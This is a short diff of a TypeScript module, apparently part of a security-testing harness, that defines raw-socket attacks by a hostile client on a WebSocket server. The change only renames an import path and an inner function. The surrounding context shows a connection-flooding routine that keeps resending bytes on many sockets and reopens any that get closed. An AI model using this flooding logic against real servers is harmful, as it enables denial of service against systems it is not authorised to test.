@@ -1,9 +1,9 @@
 /** The attacks of a hostile client on a WebSocket server below the level of messages, on raw sockets. */
 import * as net from "node:net"
 import { fromAttacker } from "./attackerAddress.ts"
+import type { Attack } from "./connectionAttacks.ts"
 import { drained } from "./drained.ts"
 import * as Frames from "./frames.ts"
-import type { Attack } from "./lineAttacks.ts"
 
 const pause = (millis: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, millis))
 
@@ -30,7 +30,7 @@ const open = (url: URL): Promise<net.Socket | undefined> =>
 
 /** Repeats the same bytes on many connections. A new connection replaces one that the victim closes. */
 const flood = (connections: number, bytes: Uint8Array): Attack<URL> => async (url, signal) => {
-  const one = async (): Promise<void> => {
+  const attackOnce = async (): Promise<void> => {
     while (!signal.aborted) {
       const socket = await open(url)
       if (socket === undefined) {
@@ -46,7 +46,7 @@ const flood = (connections: number, bytes: Uint8Array): Attack<URL> => async (ur
       }
     }
   }
-  await Promise.all(Array.from({ length: connections }, one))
+  await Promise.all(Array.from({ length: connections }, attackOnce))
 }
 
 export const webSocketAttacks: Readonly<Record<string, Attack<URL>>> = {
